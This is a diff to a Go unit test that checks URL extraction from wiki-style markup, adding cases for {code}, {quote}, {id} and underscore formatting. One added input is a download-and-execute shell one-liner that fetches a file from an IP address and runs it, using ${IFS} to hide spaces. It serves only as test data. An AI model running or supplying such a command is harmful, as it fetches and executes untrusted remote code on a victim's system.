@@ -83,7 +83,11 @@ func TestFarMarkup(t *testing.T) {
 		"if a*b https://a.example/b*":                                                        "https://a.example/b*",
 		"*See https://a.example/*/b*":                                                        "https://a.example/*/b*",
 		"{color:red}https://a.example/b{color}, {quote}https://a.example/b{quote} https://c": "https://a.example/b https://a.example/b https://c",
-		"{code}see http://a.example/b{code}d http://a.example/{code}":                        "http://a.example/b http://a.example/",
-		"http://a.example/{color}\n{colors:red}http://a.example/{color}":                     "http://a.example/%7Bcolor%7D http://a.example/%7Bcolor%7D",
+		"{code}see http://a.example/b{code}d http://a.example/c{panel}":                      "http://a.example/b http://a.example/c%7Bpanel%7D",
+		"{quote}\nhttps://a.example/b{quote}\n{color}http://a.example/{color}":               "https://a.example/b http://a.example/%7Bcolor%7D",
+		"{id} http://a.example/b{id} http://a.example/{id}":                                  "http://a.example/b%7Bid%7D http://a.example/%7Bid%7D",
+		"_Read more at https://a.example/b_ and so on":                                       "https://a.example/b",
+		"_a_b https://a.example/b_":                                                          "https://a.example/b_",
+		"cd /tmp;wget${IFS}http://192.0.2.7/m;sh${IFS}m":                                     "http://192.0.2.7/m",
 	})
 }
